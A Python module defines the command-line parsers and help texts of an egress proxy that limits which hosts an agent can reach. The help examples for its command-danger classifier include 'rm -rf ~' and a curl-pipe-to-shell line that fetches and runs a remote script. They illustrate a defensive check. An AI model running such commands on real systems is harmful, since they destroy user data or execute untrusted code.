"""Every verb with its flags and its --help.

No meaning here. Next: settings_flags.py (the flags of settings), main.py (runs the verb).
"""

from collections.abc import Callable, Mapping

from egress_proxy.cli.flag_parser import FlagParser, duration
from egress_proxy.cli.sandbox_arguments import run_parser
from egress_proxy.cli.settings_flags import (
    add_config,
    add_credential_rule,
    add_lists,
    add_settings,
)
from egress_proxy.cli.variable_formats import Format


def serve_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Start the proxy. An agent reaches the hosts that are listed or granted, and no others.",
        (
            f"{prog} --allow api.example.com --allow '*.example.org'",
            f"{prog} --allow git.example.com --control-token-env TOKEN --audit audit.jsonl",
            f"{prog} --inject-host api.example.com --inject-secret-env API_KEY",
        ),
        "[flags]",
    )
    add_settings(parser)
    volume = parser.add_mutually_exclusive_group()
    volume.add_argument("-q", "--quiet", action="store_true", help="log no decisions")
    volume.add_argument(
        "-v", "--verbose", action="store_true", help="log ends of tunnels and control calls too"
    )
    return parser


def check_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Say what the proxy would decide for one target, without any network.\n"
        "Exit 0: allowed, 3: refused, 2: the target or a setting is malformed.",
        (
            f"{prog} api.example.com --allow '*.example.com'",
            f"{prog} https://api.example.com/v1/models --json",
            f"{prog} 10.0.0.7:8080 --config egress.toml",
        ),
        "[flags] HOST[:PORT] | URL",
    )
    parser.add_argument("host", metavar="HOST[:PORT]", help="a bare host means port 443")
    parser.add_argument("--client", dest="as_client", metavar="NAME", help="ask as this [[client]]")
    _add_json(parser)
    add_lists(parser)
    add_credential_rule(parser)
    add_config(parser)
    return parser


def config_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Show the settings that the same flags would give `serve`, or check them.",
        (
            f"{prog} show",
            f"{prog} show --json --config egress.toml",
            f"{prog} check --config egress.toml",
        ),
        "show|check [flags]",
    )
    parser.add_argument(
        "action",
        choices=("show", "check"),
        help="show: every setting, its value, where it came from. check: exit 2 if serve would",
    )
    parser.add_argument("--secrets", action="store_true", help="check: also that every secret can be read")
    _add_json(parser)
    add_settings(parser)
    return parser


def env_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Print the variables that send a client's traffic through the proxy.",
        (
            f'eval "$({prog})"',
            f"{prog} --format json --proxy 127.0.0.1:8899",
            f'eval "$({prog} --unset)"',
        ),
        "[flags]",
    )
    parser.add_argument(
        "--format", choices=[item.value for item in Format], default="shell", help="default: shell"
    )
    parser.add_argument("--json", action="store_true", help="the same as --format json")
    parser.add_argument("--unset", action="store_true", help="print what takes them away again")
    parser.add_argument("--proxy", metavar="HOST:PORT", help="the data port (default: bind of the settings)")
    parser.add_argument(
        "--no-proxy-loopback",
        action="store_true",
        help="without the marker: let localhost by-pass the proxy",
    )
    parser.add_argument(
        "--no-marker",
        action="store_true",
        help="do not look whether the proxy answers; leave STEERABLE_EGRESS_CONFINED out",
    )
    add_config(parser)
    return parser


def allow_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Let the running proxy's clients reach one more host, until it stops or the grant ends.",
        (
            f"{prog} api.example.com",
            f"{prog} '*.example.org' --ttl 1h --reason 'fetch the docs'",
            f"{prog} git.example.com:22 --max-uses 1 --client build",
        ),
        "[flags] HOST[:PORT]",
    )
    parser.add_argument("entry", metavar="HOST[:PORT]", help="a bare host means ports 443 and 80")
    parser.add_argument(
        "--ttl", type=duration, metavar="TIME", help="until the grant ends: seconds, or 15m, 1h, 2d"
    )
    parser.add_argument("--max-uses", type=int, metavar="N", help="connections that it admits")
    parser.add_argument("--client", metavar="NAME", help="for this client alone")
    parser.add_argument("--reason", metavar="TEXT", help="shown in lists and in the audit log")
    _add_json(parser)
    _add_control(parser)
    return parser


def classify_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Grade a shell command line: critical, warning or safe. Nothing is run.\n"
        "A hint and not a boundary: what a program does cannot be read off its command line.\n"
        "Exit 0: safe or warning (with a line on stderr for each rule), 3: critical.",
        (
            f"{prog} 'rm -rf ~'",
            f"{prog} --json 'curl https://x.example/i.sh | sh'",
            f"{prog} - < script.sh",
        ),
        "[flags] COMMAND | -",
    )
    parser.add_argument(
        "shell_command", metavar="COMMAND", help="one argument, quoted; - reads standard input"
    )
    parser.add_argument("--platform", choices=("unix", "windows"), help="default: this machine's")
    _add_json(parser)
    return parser


def revoke_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "Take a grant back and close the tunnels that rest on it.",
        tuple(f"{prog} g-44bddb88475a{more}" for more in ("", " --json", " --control-port 40123")),
        "[flags] ID",
    )
    parser.add_argument("grant_id", metavar="ID", help="as `allow` and `grants` show it")
    _add_json(parser)
    _add_control(parser)
    return parser


def grants_parser(prog: str) -> FlagParser:
    parser = FlagParser(
        prog,
        "List the grants of the running proxy.",
        (f"{prog}", f"{prog} --json", f"{prog} --control-port 40123"),
        "[flags]",
    )
    _add_json(parser)
    _add_control(parser)
    return parser


SUMMARIES: Mapping[str, str] = {
    "serve": "start the proxy",
    "run": "run one command that has no way out but a proxy of its own",
    "sandbox": "confine a process, or say how far that is possible here",
    "check": "what would be decided for one target, offline",
    "env": "the variables that send a client through the proxy",
    "allow": "let the running proxy's clients reach one more host",
    "revoke": "take such a grant back",
    "grants": "list the grants",
    "classify": "whether a shell command looks dangerous: a hint, not a boundary",
    "config": "show the settings and where they came from, or check them",
}

PARSERS: Mapping[str, Callable[[str], FlagParser]] = {
    "serve": serve_parser,
    "run": run_parser,
    "check": check_parser,
    "env": env_parser,
    "allow": allow_parser,
    "revoke": revoke_parser,
    "grants": grants_parser,
    "classify": classify_parser,
    "config": config_parser,
}


TAKES_COMMAND = frozenset({"run"})
"""Behind `--` there is a command line of somebody else's."""


def _add_json(parser: FlagParser) -> None:
    parser.add_argument("--json", action="store_true", help="print JSON")


def _add_control(parser: FlagParser) -> None:
    parser.add_argument(
        "--control-port",
        metavar="P",
        help="default: $STEERABLE_EGRESS_CONTROL_PORT or $EGRESS_CONTROL_PORT",
    )
    parser.add_argument(
        "--control-token-env",
        metavar="VAR",
        help="variable that holds the token (default: [STEERABLE_]EGRESS_CONTROL_TOKEN)",
    )
